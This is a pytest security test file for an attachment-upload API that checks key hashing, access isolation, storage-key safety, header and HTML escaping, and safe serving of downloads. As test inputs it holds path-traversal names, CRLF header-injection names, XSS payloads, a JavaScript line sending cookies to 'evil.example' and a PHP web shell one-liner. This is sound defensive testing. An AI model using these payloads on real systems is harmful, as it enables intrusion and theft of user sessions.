"""affix's security claims, one test each, with the exact behaviour asserted: API keys stored as
hashes only, other users' uploads indistinguishable from missing ones, storage keys free of client
input, no header or HTML injection through names and descriptions, active content never served
inline, nosniff on every download, the client's content type ignored, and slow clients left to
the documented deployment."""
import hashlib
import io
import json
import re
import urllib.parse
from pathlib import Path

import falcon.testing
import pytest

from affix.app.cli.commands import main as affix_main
from affix.app.testing import basic_auth, multipart
from support.bodies import upload_body
from support.content import png_bytes
from support.processes import REPO_ROOT
from support.state import STORAGE_KEY

DEPLOYING_GUIDE = REPO_ROOT / "docs" / "guides" / "deploying.md"
NO_SUCH_ATTACHMENT = {
    "_type": "Error", "errorIdentifier": "urn:openproject-org:api:v3:errors:NotFound",
    "message": "The specified attachment does not exist.",
}


def upload(client, people, login="ada", name="notes.txt", content=b"hello", description=None,
           file_headers=None, path="/api/v3/attachments"):
    metadata = {"fileName": name}
    if description is not None:
        metadata["description"] = description
    parts = [("metadata", json.dumps(metadata).encode(), {"Content-Type": "application/json"}),
             ("file", content, file_headers or {"Content-Type": "application/octet-stream"})]
    body, content_type = multipart(parts)
    return client.simulate_post(
        path, body=body, headers={**people.auth(login), "Content-Type": content_type})


def uploaded(client, people, **kwargs) -> dict:
    response = upload(client, people, **kwargs)
    assert response.status_code == 200, response.json
    return response.json


def files_under(root: Path) -> dict:
    return {path: path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}


def raw_get(app, path, headers):
    """Call the WSGI app itself: the status and the header list exactly as handed to
    start_response (names lowercased by the mock, values untouched), and the body."""
    start_response = falcon.testing.StartResponseMock()
    environ = falcon.testing.create_environ(path=path, headers=headers)
    result = app(environ, start_response)
    try:
        body = b"".join(result)
    finally:
        if hasattr(result, "close"):
            result.close()
    return start_response.status, start_response.headers, body


def full(response):
    """Everything a client sees of an answer."""
    return response.status, sorted(response.headers.items()), response.content


# --- API keys ----------------------------------------------------------------------------------

def test_api_keys_are_stored_only_as_sha256_hashes(settings, client, catalog, people, databases):
    # keys issued by issue_api_key (the fixture's way, and first start's) and by the CLI
    out = io.StringIO()
    assert affix_main(["apikey", "create", "bob"],
                      environ={"AFFIX_DATA_DIR": str(settings.data_dir),
                               "AFFIX_DATABASE_URL": settings.database_url}, out=out) == 0
    keys = {**people.keys, "bob (cli)": out.getvalue().strip()}
    # every key used, as Basic and as Bearer, for an upload and a read
    for who, key in keys.items():
        for authorization in (basic_auth(key), f"Bearer {key}"):
            headers = {"Authorization": authorization}
            assert client.simulate_get("/api/v3", headers=headers).status_code == 200
            body, content_type = upload_body()
            response = client.simulate_post("/api/v3/attachments", body=body, headers={
                **headers, "Content-Type": content_type})
            # eve may not upload
            assert response.status_code == (403 if who == "eve" else 200)

    with catalog.database.connection_context():
        stored_hashes = sorted(api_key.key_hash for api_key in catalog.ApiKey.select())
    assert stored_hashes == sorted(hashlib.sha256(key.encode()).hexdigest()
                                   for key in keys.values())
    if databases.kind != "sqlite":
        return  # the server's files are out of reach; the stored hashes above are its rows
    # every file under the data dir: the database, its write-ahead log, the blobs
    data = b"".join(files_under(settings.data_dir).values())
    for who, key in keys.items():
        assert re.fullmatch(r"[0-9a-f]{64}", key)
        # these bytes hold the key's row (its hash is found); no form of the key itself is
        assert hashlib.sha256(key.encode()).hexdigest().encode() in data
        for form in (key, key.upper(), basic_auth(key).split()[1]):
            assert form.encode() not in data, f"{who}'s key is stored as {form!r}"


# --- someone else's upload ---------------------------------------------------------------------

@pytest.fixture
def mallory(people):
    """A user who may do everything with work packages in the project, and upload."""
    return people.add("mallory", permissions=[
        "view_work_packages", "add_work_packages", "edit_work_packages",
        "add_work_package_attachments"])


@pytest.fixture
def bobs_upload(client, people):
    """Bob's containerless upload, and an id that names nothing."""
    attachment_id = uploaded(client, people, login="bob", name="bob.txt", content=b"bob's")["id"]
    return attachment_id, attachment_id + 1000


@pytest.mark.parametrize("login", ["ada", "eve", "mallory"])
@pytest.mark.parametrize("method, suffix, headers", [
    ("GET", "", {}),
    ("GET", "/download", {}),
    ("GET", "/content", {}),
    ("GET", "/download", {"Range": "bytes=0-1"}),
    ("GET", "/content", {"Range": "bytes=100-"}),
    ("DELETE", "", {}),
])
def test_someone_elses_upload_answers_exactly_like_a_missing_one(
        client, people, stored, mallory, bobs_upload, login, method, suffix, headers):
    bobs, missing = bobs_upload
    before = stored.snapshot()

    def ask(attachment_id):
        # the same request id for both, which each answer echoes
        return full(client.simulate_request(
            method, f"/api/v3/attachments/{attachment_id}{suffix}",
            headers={**people.auth(login), **headers, "X-Request-Id": "probe"}))

    answer = ask(bobs)
    assert answer == ask(missing)
    status, _, body = answer
    assert (status, json.loads(body)) == ("404 Not Found", NO_SUCH_ATTACHMENT)
    assert stored.snapshot() == before
    assert client.simulate_get(
        f"/api/v3/attachments/{bobs}", headers=people.auth("bob")).status_code == 200


def claims(attachment_id):
    return {"attachments": [{"href": f"/api/v3/attachments/{attachment_id}"}]}


@pytest.mark.parametrize("login", ["ada", "mallory"])
@pytest.mark.parametrize("claim", ["create", "create in project", "patch"])
def test_claiming_someone_elses_upload_answers_exactly_like_a_missing_one(
        client, people, catalog, stored, mallory, bobs_upload, login, claim):
    bobs, missing = bobs_upload
    work_package = client.simulate_post("/api/v3/work_packages", json={
        "subject": "target", "_links": {"project": {"href": "/api/v3/projects/1"}}},
        headers=people.auth(login))
    assert work_package.status_code == 201
    target = work_package.json["id"]
    before = stored.snapshot()

    # the same request id for both, which each answer echoes
    headers = {**people.auth(login), "X-Request-Id": "probe"}

    def ask(attachment_id):
        links = claims(attachment_id)
        if claim == "create":
            return client.simulate_post("/api/v3/work_packages", json={
                "subject": "s", "_links": {"project": {"href": "/api/v3/projects/1"}, **links}},
                headers=headers)
        if claim == "create in project":
            return client.simulate_post("/api/v3/projects/1/work_packages", json={
                "subject": "s", "_links": links}, headers=headers)
        return client.simulate_patch(f"/api/v3/work_packages/{target}", json={
            "subject": "changed", "lockVersion": 0, "_links": links}, headers=headers)

    answer = full(ask(bobs))
    assert answer == full(ask(missing))
    status, _, body = answer
    assert (status, json.loads(body)) == ("422 Unprocessable Entity", {
        "_type": "Error",
        "errorIdentifier": "urn:openproject-org:api:v3:errors:PropertyConstraintViolation",
        "message": "Attachments does not exist.",
        "_embedded": {"details": {"attribute": "attachments"}}})
    # nothing was claimed, created or changed
    assert stored.snapshot() == before
    with catalog.database.connection_context():
        assert [(w.id, w.subject) for w in catalog.WorkPackage.select()] == [(target, "target")]
        assert catalog.Attachment.get_by_id(bobs).container_type is None


# --- storage keys ------------------------------------------------------------------------------

@pytest.mark.parametrize("file_name, part_file_name", [
    ("../../x", "upload.bin"),
    ("/etc/passwd", "upload.bin"),
    ("a/b", "upload.bin"),
    ("..", ".."),
    ("C:\\Windows\\x.txt", "C:\\Windows\\x.txt"),
    ("%2e%2e%2fx", "%2e%2e%2fx"),
    ("notes.txt", "../../evil"),
    ("notes.txt", "/etc/passwd"),
])
@pytest.mark.parametrize("into", ["/api/v3/attachments", "/api/v3/work_packages/1/attachments"])
def test_storage_keys_are_never_derived_from_client_input(
        tmp_path, settings, client, people, stored, file_name, part_file_name, into):
    if into != "/api/v3/attachments":
        assert client.simulate_post("/api/v3/work_packages", json={
            "subject": "s", "_links": {"project": {"href": "/api/v3/projects/1"}}},
            headers=people.auth("ada")).status_code == 201
    passwd = Path("/etc/passwd").read_bytes()
    escaped = part_file_name.replace("\\", "\\\\")
    document = uploaded(client, people, name=file_name, content=b"not a path", path=into,
                        file_headers={"Content-Disposition":
                                      f'form-data; name="file"; filename="{escaped}"'})
    assert document["fileName"] == file_name

    ((_, stored_name, _, _, key),) = stored.rows()
    assert stored_name == file_name
    assert STORAGE_KEY.fullmatch(key)
    blob_root = Path(settings.storage_url).resolve()
    assert (blob_root / key).resolve().is_relative_to(blob_root)
    assert stored.files() == {key: b"not a path"}
    # nothing was written anywhere else: every file of the test's folder is in the data dir
    outside = [path for path in files_under(tmp_path)
               if not path.resolve().is_relative_to(settings.data_dir.resolve())]
    assert outside == []
    for base in (blob_root, settings.data_dir, Path.cwd()):
        for name in (file_name, part_file_name):
            if name not in ("/etc/passwd", ".."):
                assert not (base / name).exists(), base / name
    assert Path("/etc/passwd").read_bytes() == passwd


# --- injection through names and descriptions --------------------------------------------------

# file name -> the exact Content-Disposition of its download (text bytes: served inline)
DISPOSITIONS = {
    "a\r\nX-Evil: 1.txt":
        "inline; filename=\"a__X-Evil: 1.txt\"; filename*=UTF-8''a%0D%0AX-Evil%3A%201.txt",
    "a\nb.txt": "inline; filename=\"a_b.txt\"; filename*=UTF-8''a%0Ab.txt",
    "a\rb.txt": "inline; filename=\"a_b.txt\"; filename*=UTF-8''a%0Db.txt",
    "a\x01b\x7f.txt": "inline; filename=\"a_b_.txt\"; filename*=UTF-8''a%01b%7F.txt",
    "tab\there.txt": "inline; filename=\"tab_here.txt\"; filename*=UTF-8''tab%09here.txt",
    "a\u2028b\x85c.txt":
        "inline; filename=\"a_b_c.txt\"; filename*=UTF-8''a%E2%80%A8b%C2%85c.txt",
    "\u202etxt.exe": "inline; filename=\"_txt.exe\"; filename*=UTF-8''%E2%80%AEtxt.exe",
    "ünïcødé 日本.txt":
        "inline; filename=\"_n_c_d_ __.txt\"; "
        "filename*=UTF-8''%C3%BCn%C3%AFc%C3%B8d%C3%A9%20%E6%97%A5%E6%9C%AC.txt",
    'q"uote;semi\\back.txt':
        "inline; filename=\"q_uote;semi_back.txt\"; filename*=UTF-8''q%22uote%3Bsemi%5Cback.txt",
    "\U0001F600.txt": "inline; filename=\"_.txt\"; filename*=UTF-8''%F0%9F%98%80.txt",
}


@pytest.mark.parametrize("file_name", DISPOSITIONS)
def test_file_names_cannot_inject_headers(app, client, people, file_name):
    document = uploaded(client, people, name=file_name, content=b"hello")
    # the name comes back as JSON data, exactly
    assert document["fileName"] == document["_links"]["self"]["title"] == file_name

    for suffix in ("/download", "/content"):
        status, headers, body = raw_get(
            app, f"/api/v3/attachments/{document['id']}{suffix}", people.auth("ada"))
        assert (status, body) == ("200 OK", b"hello")
        for name, value in headers:
            # each header a single, printable ASCII line
            assert re.fullmatch(r"[!-~]+", name), name
            assert re.fullmatch(r"[ -~]*", value), (name, value)
        names = [name for name, _ in headers]
        assert names.count("content-disposition") == 1
        assert "x-evil" not in names
        (disposition,) = [value for name, value in headers if name == "content-disposition"]
        assert disposition == DISPOSITIONS[file_name]
        extended = disposition.split("filename*=UTF-8''", 1)[1]
        assert urllib.parse.unquote(extended, errors="strict") == file_name


def test_descriptions_and_names_cannot_inject_html(client, people):
    name = '<img src=x onerror="alert(1)">.html'
    raw = "<script>alert(1)</script>\n\n'quoted' & \"double\""
    document = uploaded(client, people, name=name, description=raw)
    expected_description = {
        "format": "plain", "raw": raw,
        "html": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
                "<p>&#x27;quoted&#x27; &amp; &quot;double&quot;</p>",
    }
    response = client.simulate_get(f"/api/v3/attachments/{document['id']}",
                                   headers=people.auth("ada"))
    for answer in (document, response.json):
        assert answer["description"] == expected_description
        assert answer["fileName"] == answer["title"] == name
        assert answer["_links"]["self"]["title"] == name
    assert response.headers["content-type"] == "application/hal+json"


# --- what downloads are served as --------------------------------------------------------------

ACTIVE = {
    "html document": b"<!DOCTYPE html>\n<html><head><title>x</title></head>"
                     b"<body><script>alert(1)</script></body></html>\n",
    "html fragment": b"<script>alert(document.cookie)</script>\n",
    "html with a UTF-8 BOM": b"\xef\xbb\xbf<!DOCTYPE html><html><script>alert(1)</script></html>",
    "html in UTF-16": "\ufeff<!DOCTYPE html><html><script>alert(1)</script></html>".encode(
        "utf-16-le"),
    "svg": b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
           b'onload="alert(1)"><script>alert(1)</script></svg>\n',
    "svg without declaration":
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
    "xhtml": b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML '
             b'1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n<html '
             b'xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body>'
             b'</html>\n',
    "xml with a stylesheet": b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" '
                             b'href="evil.xsl"?>\n<root>x</root>\n',
    "xslt": b'<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" '
            b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
            b'<script>alert(1)</script></xsl:template></xsl:stylesheet>\n',
    "rss": b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>x</title></channel>'
           b'</rss>\n',
    "javascript with a shebang": b"#!/usr/bin/env node\nalert(1);\n",
    "javascript": b"function f() {\n  document.location = 'https://evil.example/?' + "
                  b"document.cookie;\n}\nf();\n",
    "css": b"body { background: url(javascript:alert(1)) }\n",
    "php": b"<?php system($_GET['c']); ?>\n",
    "mhtml": b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
             b"Content-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n",
    "flash": b"FWS\x0a" + b"\x00" * 60,
    "webassembly": b"\x00asm\x01\x00\x00\x00",
}
ACTIVE_TYPES = {"text/html", "image/svg+xml", "application/xhtml+xml", "application/javascript",
                "text/javascript", "application/xml", "text/xml", "application/xslt+xml",
                "application/rss+xml", "text/css", "application/x-shockwave-flash",
                "application/wasm", "multipart/related", "message/rfc822"}


def assert_served_safely(headers):
    media_type = headers["content-type"].split(";")[0].strip().lower()
    assert media_type not in ACTIVE_TYPES
    assert headers["x-content-type-options"] == "nosniff"
    if media_type == "text/plain":
        assert re.fullmatch(r"text/plain; charset=[a-z0-9-]+", headers["content-type"])
    else:
        assert headers["content-type"] == "application/octet-stream"
        assert headers["content-disposition"].startswith("attachment; ")


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE.keys())
@pytest.mark.parametrize("claimed", ["text/html", "image/svg+xml"])
def test_active_content_is_never_served_inline(client, people, content, claimed):
    document = uploaded(client, people, name="page.html", content=content,
                        file_headers={"Content-Type": claimed})
    for suffix in ("/download", "/content"):
        response = client.simulate_get(f"/api/v3/attachments/{document['id']}{suffix}",
                                       headers=people.auth("ada"))
        assert response.status_code == 200
        assert response.content == content
        assert_served_safely(response.headers)


DOWNLOADS = {
    "png": png_bytes(), "text": b"plain words\n", "html": ACTIVE["html document"],
    "svg": ACTIVE["svg"], "binary": bytes(range(256)), "empty": b"",
}


@pytest.mark.parametrize("content, byte_range", [
    pytest.param(content, byte_range, id=f"{kind}-{byte_range or 'whole'}")
    for kind, content in DOWNLOADS.items()
    # no range of an empty file can be satisfied
    for byte_range in ([None, "bytes=0-3", "bytes=-2"] if content else [None])
])
@pytest.mark.parametrize("suffix", ["/download", "/content"])
def test_every_download_carries_nosniff(client, people, content, suffix, byte_range):
    document = uploaded(client, people, content=content)
    headers = people.auth("ada")
    if byte_range:
        headers["Range"] = byte_range
    response = client.simulate_get(f"/api/v3/attachments/{document['id']}{suffix}",
                                   headers=headers)
    assert response.status_code == (206 if byte_range else 200)
    assert response.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("claimed_name, claimed_type", [
    ("cat.png", "image/png"), ("cat.jpg", "image/jpeg"), ("doc.pdf", "application/pdf"),
])
def test_the_clients_content_type_is_ignored(client, people, claimed_name, claimed_type):
    html = ACTIVE["html document"]
    metadata = json.dumps({"fileName": claimed_name, "contentType": claimed_type}).encode()
    body, content_type = multipart([
        ("metadata", metadata, {"Content-Type": "application/json"}),
        ("file", html, {"Content-Type": claimed_type, "Content-Disposition":
                        f'form-data; name="file"; filename="{claimed_name}"'}),
    ])
    response = client.simulate_post("/api/v3/attachments", body=body, headers={
        **people.auth("ada"), "Content-Type": content_type})
    assert response.status_code == 200
    assert response.json["contentType"] == "text/html"
    download = client.simulate_get(f"/api/v3/attachments/{response.json['id']}/download",
                                   headers=people.auth("ada"))
    assert download.headers["content-type"] == "text/plain; charset=us-ascii"
    assert download.headers["content-disposition"].startswith("inline; ")
    assert_served_safely(download.headers)

    # and the other way round: a real PNG claimed as HTML is a PNG
    png = png_bytes()
    body, content_type = multipart([
        ("metadata", b'{"fileName": "page.html", "contentType": "text/html"}', {}),
        ("file", png, {"Content-Type": "text/html"}),
    ])
    response = client.simulate_post("/api/v3/attachments", body=body, headers={
        **people.auth("ada"), "Content-Type": content_type})
    assert response.json["contentType"] == "image/png"
    download = client.simulate_get(f"/api/v3/attachments/{response.json['id']}/download",
                                   headers=people.auth("ada"))
    assert download.headers["content-type"] == "image/png"


# --- slow clients ------------------------------------------------------------------------------

def test_the_deploying_guide_tells_how_slow_clients_are_handled():
    """Slow clients are the deployment's to absorb, not affix's: the deploying guide must say so
    (gthread workers, and a reverse proxy that buffers request bodies)."""
    serving = DEPLOYING_GUIDE.read_text()
    assert "gthread" in serving
    assert re.search(r"slow (upload|client)", serving)
    assert "reverse proxy" in serving
    # a proxy that streams request bodies through still ties up a thread per slow client;
    # only one that buffers them protects the workers
    assert re.search(r"buffer", serving, re.IGNORECASE), (
        "the deploying guide does not say that the reverse proxy must buffer request bodies")
